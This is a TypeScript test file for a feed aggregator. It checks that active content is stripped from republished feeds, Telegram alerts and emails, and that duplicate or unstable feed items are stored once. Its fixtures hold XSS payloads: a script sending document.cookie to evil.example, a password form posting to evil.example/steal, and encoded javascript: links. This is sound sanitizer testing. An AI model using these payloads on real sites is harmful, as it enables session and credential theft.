/**
 * Hostile-input matrix rows 15 and 17 (../shared/docs/hostile-matrix.md), on loopback
 * servers through the real poll path: active content in feeds and article pages never
 * reaches the republished feeds or Telegram alerts; and GUIDs that are missing, repeated or
 * unstable, items that come back, URLs shared by sources and stories under several URLs give
 * one stored article per URL/GUID, linked copies, and one recorded delivery per subscriber
 * and story across polls.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../src/app.js';
import { pollSource } from '../../src/pipeline/poll-source.js';
import type { Article } from '../../src/domain/article.js';
import type { Delivery } from '../../src/domain/subscription.js';
import { storyKey } from '../../src/delivery/dispatch.js';
import { checkTelegramHtml, visibleText } from '../helpers/fake-bot-api.js';
import {
  activeContent,
  alertActiveContent,
  alertOf,
  emailActiveContent,
  emailOf,
  feedSource,
  pollingApp,
  routeServer,
  jsonItems,
  markupInText,
  republish,
  republishedActiveContent,
  type RouteServer,
} from './content-checks.js';

const daysAgo = (d: number) => new Date(Date.now() - d * 86_400_000).toUTCString();
const isoDaysAgo = (d: number) => new Date(Date.now() - d * 86_400_000).toISOString();

/** Every kind of active content row 15 names, and more, around text that must survive. */
function hostileHtml(origin: string, marker: string): string {
  return [
    `<p>${marker}：自治区科技厅召开工作会议，部署下一阶段科技创新重点任务。</p>`,
    `<script>document.location='http://evil.example/?c='+document.cookie</script>`,
    `<p onclick="alert(1)" onmouseover="alert(2)" style="width: expression(alert(3)); background:url('javascript:alert(4)')">点击无害段落</p>`,
    `<a href="javascript:alert(5)">脚本链接</a> <a href=" &#106;&#97;vascript:alert(6)">实体编码的脚本链接</a> <a href="JaVaScRiPt&colon;alert(7)">冒号实体</a>`,
    `<a href="java\tscript:alert(8)">制表符</a> <a href="vbscript:msgbox(9)">vb</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data 链接</a>`,
    `<iframe src="http://evil.example/frame"></iframe><frameset><frame src="http://evil.example/f"></frameset>`,
    `<object data="http://evil.example/x.swf"><param name="movie" value="x.swf"><embed src="http://evil.example/x.swf"></object>`,
    `<style>body { background: expression(alert(10)); } @import url(javascript:alert(11));</style>`,
    `<div style="behavior: url(x.htc); -moz-binding: url(http://evil.example/xbl)">CSS 行为</div>`,
    `<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/s.css">`,
    `<img src="${origin}/img/photo.jpg" alt="正常图片" onerror="alert(12)">`,
    `<img src="${origin}/img/a.gif" width="1" height="1"><img src="${origin}/img/b.png" style="display:none">`,
    `<img src="https://www.google-analytics.com/collect?v=1&amp;tid=UA-1"><img src="https://hm.baidu.com/hm.gif?si=x"><img src="${origin}/pixel.gif">`,
    `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
    `<svg onload="alert(13)"><script>alert(14)</script></svg><math><mi xlink:href="javascript:alert(15)">m</mi></math>`,
    `<form action="http://evil.example/steal"><input name="pw" type="password"><button formaction="javascript:alert(16)">提交</button></form>`,
    `<details open ontoggle="alert(17)"><summary>摘要</summary>细节</details><video src="x" onerror="alert(18)"></video>`,
    `<p>正常链接 <a href="${origin}/read/more.html">阅读全文</a>；javascript 教程与 onload 事件这几个词是正文。</p>`,
  ].join('\n');
}

const cdata = (s: string) => `<![CDATA[${s.replaceAll(']]>', ']]]]><![CDATA[>')}]]>`;

describe('hostile content', () => {
  let server: RouteServer;
  let app: App;
  const link = (p: string) => `${server.origin}${p}`;

  beforeAll(async () => {
    server = await routeServer();
    app = await pollingApp();
  });

  afterAll(async () => {
    await app?.close();
    await server?.close();
  });

  describe('hostile #15: scripts, handlers, javascript: links, frames, CSS expressions and tracking pixels are absent from what tidings republishes', () => {
    it('republishes RSS, Atom, JSON Feed and full-text sources without active content, in all three formats, Telegram alerts and emails', async () => {
      const o = server.origin;
      server.routes.set('/x15.rss', {
        headers: { 'content-type': 'application/rss+xml; charset=utf-8' },
        body: `<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>RSS &lt;script&gt;alert(0)&lt;/script&gt;</title><link>${o}/</link><description>d</description>
<item><guid>x15-rss-1</guid><title>RSS 标题 &lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(2)&lt;/script&gt;</title><link>${link('/x15/rss-1.html')}</link><pubDate>${daysAgo(1)}</pubDate>
<description>${cdata(`<p onmouseover="alert(1)">摘要</p><script>alert(1)</script>`)}</description>
<content:encoded>${cdata(hostileHtml(o, 'RSS 正文'))}</content:encoded></item>
<item><guid>x15-rss-2</guid><title>RSS 仅摘要</title><link>${link('/x15/rss-2.html')}</link><pubDate>${daysAgo(1)}</pubDate>
<description>${hostileHtml(o, 'RSS 摘要').replace(/&/g, '&amp;').replace(/</g, '&lt;')}</description></item>
</channel></rss>`,
      });
      server.routes.set('/x15.atom', {
        headers: { 'content-type': 'application/atom+xml' },
        body: `<feed xmlns="http://www.w3.org/2005/Atom"><title>Atom</title><id>urn:x15</id><updated>2024-01-01T00:00:00Z</updated>
<entry><id>urn:x15:1</id><title type="html">&lt;b onclick="alert(1)"&gt;Atom 标题&lt;/b&gt;</title><link href="${link('/x15/atom-1.html')}"/><updated>${isoDaysAgo(1)}</updated>
<summary type="html">${cdata('<a href="javascript:alert(1)">摘要链接</a>')}</summary>
<content type="html">${cdata(hostileHtml(o, 'Atom 正文'))}</content></entry>
<entry><id>urn:x15:2</id><title>Atom XHTML</title><link href="${link('/x15/atom-2.html')}"/><updated>${isoDaysAgo(1)}</updated>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Atom XHTML 正文：自治区科技厅召开工作会议。</p><script>alert(1)</script><a href="javascript:alert(2)">x</a><img src="${o}/img/p.jpg" onerror="alert(3)"/><iframe src="http://evil.example/"/></div></content></entry>
</feed>`,
      });
      server.routes.set('/x15.json', {
        headers: { 'content-type': 'application/feed+json' },
        body: JSON.stringify({
          version: 'https://jsonfeed.org/version/1.1',
          title: 'JSON',
          items: [
            { id: 'x15-json-1', url: link('/x15/json-1.html'), title: 'JSON 标题<script>alert(1)</script>', content_html: hostileHtml(o, 'JSON 正文'), summary: '<img src=x onerror=alert(1)>', date_published: isoDaysAgo(1) },
            { id: 'x15-json-2', url: 'javascript:alert(1)', external_url: 'javascript:alert(2)', title: '脚本地址', content_html: '<p>JSON 第二条：自治区科技厅召开工作会议。</p>', date_published: isoDaysAgo(1) },
          ],
        }),
      });
      // A feed whose entries are read from their pages (fulltext: always): the extractor's path.
      server.routes.set('/x15-pages.rss', {
        headers: { 'content-type': 'application/rss+xml; charset=utf-8' },
        body: `<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>页面</title><link>${o}/</link><description>d</description>
<item><guid>x15-page-1</guid><title>页面文章</title><link>${link('/x15/page-1.html')}</link><pubDate>${daysAgo(1)}</pubDate><description>短</description></item></channel></rss>`,
      });
      server.routes.set('/x15/page-1.html', {
        headers: { 'content-type': 'text/html; charset=utf-8' },
        body: `<!doctype html><html><head><meta charset="utf-8"><title>页面文章</title><meta http-equiv="refresh" content="0;url=http://evil.example/"><script>alert(0)</script><style>p{background:expression(alert(1))}</style></head>
<body onload="alert(2)"><div class="article"><h1>页面文章</h1><div class="content">${hostileHtml(o, '页面正文')}
<p>${'自治区科技厅召开工作会议，部署下一阶段科技创新重点任务，推动产学研深度融合。'.repeat(6)}</p></div></div></body></html>`,
      });
      const sources = [
        feedSource('x15-rss', link('/x15.rss')),
        feedSource('x15-atom', link('/x15.atom')),
        feedSource('x15-json', link('/x15.json')),
        feedSource('x15-pages', link('/x15-pages.rss'), { fulltext: 'always' }),
      ];
      const stored: Article[] = [];
      for (const s of sources) {
        const r = await pollSource(s, app.pollDeps);
        expect(r.error, s.id).toBeUndefined();
        stored.push(...r.stored);
      }
      expect(stored.length).toBeGreaterThanOrEqual(6);
      // The hostile inputs did reach the parser: every article kept its harmless text.
      const texts = stored.map((a) => a.text).join('\n');
      for (const marker of ['RSS 正文', 'RSS 摘要', 'Atom 正文', 'Atom XHTML 正文', 'JSON 正文', '页面正文']) expect(texts).toContain(marker);
      expect(texts).toContain('javascript 教程与 onload 事件');
      // A javascript: item URL is not an article link anywhere.
      for (const a of stored) expect(a.url, a.title).toMatch(/^https?:\/\//);

      // The stored HTML is what everything else renders from: already clean.
      const bad = stored.flatMap((a) => [...activeContent(a.html, `stored html of ${a.url}`), ...markupInText(a.title, `stored title of ${a.url}`)]);
      expect(bad).toEqual([]);
      // Good markup survived: paragraphs, the normal link and the content photo (pixels dropped).
      const rssArticle = stored.find((a) => a.url === link('/x15/rss-1.html'))!;
      expect(rssArticle.html).toContain(`<a href="${link('/read/more.html')}">阅读全文</a>`);
      expect(rssArticle.html).toContain(`<img src="${link('/img/photo.jpg')}" alt="正常图片" />`);
      // Script URLs spelled with references or tabs are dropped, not turned into relative paths.
      expect(rssArticle.html).not.toMatch(/href="[^"]*(?:script|colon)/i);
      expect(rssArticle.html).not.toMatch(/img\/a\.gif|img\/b\.png|google-analytics|hm\.baidu|pixel\.gif|data:/);

      const feeds = await republish(app, sources);
      expect(jsonItems(feeds.json)).toHaveLength(stored.length);
      expect(feeds.atom).toContain('RSS 正文');
      expect(republishedActiveContent(feeds)).toEqual([]);

      for (const a of stored) {
        const alert = alertOf(a, '科技 OR 标题 OR 正文 OR 摘要');
        expect(checkTelegramHtml(alert.html), a.url).toBeUndefined();
        expect(alertActiveContent(alert, a.url)).toEqual([]);
        expect(markupInText(visibleText(alert.html), `alert of ${a.url}`)).toEqual([]);
        expect(markupInText(alert.plain, `plain alert of ${a.url}`)).toEqual([]);
        const email = emailOf(a, '科技 OR 标题 OR 正文 OR 摘要');
        expect(String(email.message.html)).toContain(a.url.replaceAll('&', '&amp;'));
        expect(emailActiveContent(email, a.url)).toEqual([]);
      }
    });
  });

  describe('hostile #17: unstable GUIDs, returning items, shared URLs and copies give one article per URL and one delivery per subscriber and story', () => {
    const STORY = `${'第七次全国科技援疆工作会议在乌鲁木齐召开，会议总结了十年来科技援疆工作成效，部署了新时期科技援疆重点任务，强调要深化四方合作机制。'.repeat(3)}`;
    let round = 0;
    let oldPresent = true;

    function feedA(): string {
      round++;
      const items = [
        `<item><guid>a-base</guid><title>基线条目 科技</title><link>${link('/a/base.html')}</link><pubDate>${daysAgo(3)}</pubDate><description>基线</description></item>`,
      ];
      if (round >= 2) {
        items.push(
          // No GUID at all: the URL identifies it.
          `<item><title>无GUID的科技新闻</title><link>${link('/a/noguid.html')}</link><pubDate>${daysAgo(0.5)}</pubDate><description>无 GUID 正文 科技</description></item>`,
          // One GUID on two different items.
          `<item><guid isPermaLink="false">same-guid</guid><title>重复GUID甲 科技</title><link>${link('/a/dup-1.html')}</link><pubDate>${daysAgo(0.5)}</pubDate><description>甲</description></item>`,
          `<item><guid isPermaLink="false">same-guid</guid><title>重复GUID乙 科技</title><link>${link('/a/dup-2.html')}</link><pubDate>${daysAgo(0.5)}</pubDate><description>乙</description></item>`,
          // A GUID that changes at every poll, on the same URL (tracking parameters vary too).
          `<item><guid isPermaLink="false">changing-${round}-${Math.random()}</guid><title>GUID每次都变的科技新闻</title><link>${link(`/a/changing.html?utm_source=rss&amp;utm_campaign=r${round}`)}</link><pubDate>${daysAgo(0.5)}</pubDate><description>变</description></item>`,
          // The same URL as source B lists.
          `<item><guid>a-shared</guid><title>两个来源共同的科技新闻</title><link>${link('/shared.html')}</link><pubDate>${daysAgo(0.5)}</pubDate><description>共同</description></item>`,
          // A story that B carries under another URL.
          `<item><guid>a-story</guid><title>第七次全国科技援疆工作会议召开</title><link>${link('/a/story.html')}</link><pubDate>${daysAgo(0.6)}</pubDate><description>${STORY}</description></item>`,
        );
        if (oldPresent) items.push(`<item><guid>a-old</guid><title>时隐时现的科技旧闻</title><link>${link('/a/old.html')}</link><pubDate>${daysAgo(0.5)}</pubDate><description>旧</description></item>`);
      }
      return `<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>A</title><link>${server.origin}/</link><description>d</description>${items.join('\n')}</channel></rss>`;
    }

    function feedB(): string {
      const items = [
        `<item><guid>b-base</guid><title>乙方基线 科技</title><link>${link('/b/base.html')}</link><pubDate>${daysAgo(3)}</pubDate><description>基线</description></item>`,
      ];
      if (round >= 2) {
        items.push(
          `<item><guid>b-shared</guid><title>两个来源共同的科技新闻（转载）</title><link>${link('/shared.html?utm_source=weibo')}</link><pubDate>${daysAgo(0.4)}</pubDate><description>共同</description></item>`,
          `<item><guid>b-story</guid><title>科技援疆工作会议在乌鲁木齐召开</title><link>${link('/b/copy-of-story.html')}</link><pubDate>${daysAgo(0.4)}</pubDate><description>${STORY}</description></item>`,
        );
      }
      return `<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>B</title><link>${server.origin}/</link><description>d</description>${items.join('\n')}</channel></rss>`;
    }

    async function deliveries(): Promise<Delivery[]> {
      const keys = [...(await app.outbox.pendingKeys('telegram')), ...(await app.outbox.pendingKeys('email'))];
      return (await Promise.all(keys.map((k) => app.outbox.get(k)))).filter((d): d is Delivery => d !== undefined);
    }

    it('stores one article per URL and GUID, links copies, and records exactly one delivery per subscriber and story over five polls', async () => {
      server.routes.set('/a.xml', { headers: { 'content-type': 'application/rss+xml; charset=utf-8' }, body: () => feedA() });
      server.routes.set('/b.xml', { headers: { 'content-type': 'application/rss+xml; charset=utf-8' }, body: () => feedB() });
      const a = feedSource('dedupe-a', link('/a.xml'), { name: '甲' });
      const b = feedSource('dedupe-b', link('/b.xml'), { name: '乙' });
      await app.subscriptions.add({ subscriber: { kind: 'telegram', chatId: 1717 }, query: '科技', createdBy: 'cli' });
      await app.subscriptions.add({ subscriber: { kind: 'telegram', chatId: 1718 }, query: '科技 OR 援疆', createdBy: 'cli' });
      await app.subscriptions.add({ subscriber: { kind: 'email', address: 'reader@example.com' }, query: '科技', createdBy: 'cli' });
      expect(app.pollDeps.dispatch).toBeDefined();

      // Round 1: the backlog initializes both sources, nobody is alerted.
      await pollSource(a, app.pollDeps);
      await pollSource(b, app.pollDeps);
      expect(await deliveries()).toEqual([]);
      // Round 2: everything hostile at once; B first this time, both at once.
      const [rb, ra] = await Promise.all([pollSource(b, app.pollDeps), pollSource(a, app.pollDeps)]);
      expect(ra.error).toBeUndefined();
      expect(rb.error).toBeUndefined();
      // Round 3: the old item disappears, the GUID changes again.
      oldPresent = false;
      await pollSource(a, app.pollDeps);
      await pollSource(b, app.pollDeps);
      // Round 4: the old item is back; B polled before A.
      oldPresent = true;
      await pollSource(b, app.pollDeps);
      await pollSource(a, app.pollDeps);
      // Round 5: nothing changed but the GUID.
      await pollSource(a, app.pollDeps);

      // One stored article per URL, across both sources.
      const ids = new Set([...(await app.store.getSourceIndex(a.id)), ...(await app.store.getSourceIndex(b.id))].map((e) => e.id));
      const articles = await app.store.getArticles([...ids]);
      const urls = articles.map((x) => x.url).sort();
      expect(urls).toEqual([...new Set(urls)]);
      expect(urls).toEqual(
        [
          '/a/base.html',
          '/a/noguid.html',
          '/a/dup-1.html',
          '/a/changing.html',
          '/shared.html',
          '/a/story.html',
          '/a/old.html',
          '/b/base.html',
          '/b/copy-of-story.html',
        ]
          .map(link)
          .sort(),
      );
      // One article per GUID: the repeated GUID stored its first item only.
      expect(articles.filter((x) => x.guid === 'same-guid')).toHaveLength(1);
      // The shared URL is listed by both sources, as one article.
      const shared = articles.find((x) => x.url === link('/shared.html'))!;
      expect((await app.store.getSourceIndex(b.id)).map((e) => e.id)).toContain(shared.id);
      expect((await app.store.getSourceIndex(a.id)).map((e) => e.id)).toContain(shared.id);
      // The copy is linked to the earliest copy of its story.
      const copy = articles.find((x) => x.url === link('/b/copy-of-story.html'))!;
      const original = articles.find((x) => x.url === link('/a/story.html'))!;
      expect(copy.duplicateOf).toBe(original.url);
      expect(original.duplicateOf).toBeNull();

      // Exactly one delivery per subscriber and story.
      const recorded = await deliveries();
      const per = new Map<string, number>();
      for (const d of recorded) per.set(`${d.subscriberKey} ${d.storyKey}`, (per.get(`${d.subscriberKey} ${d.storyKey}`) ?? 0) + 1);
      expect([...per.values()].every((n) => n === 1)).toBe(true);
      const stories = ['/a/noguid.html', '/a/dup-1.html', '/a/changing.html', '/shared.html', '/a/story.html', '/a/old.html'].map((p) => storyKey({ url: link(p), duplicateOf: null }));
      for (const subscriber of ['tg:1717', 'tg:1718', 'mail:reader@example.com']) {
        const mine = recorded.filter((d) => d.subscriberKey === subscriber);
        expect(mine.map((d) => d.storyKey).sort(), subscriber).toEqual([...stories].sort());
      }
      expect(recorded).toHaveLength(stories.length * 3);
      expect(recorded.every((d) => d.status === 'pending')).toBe(true);
    });
  });
});
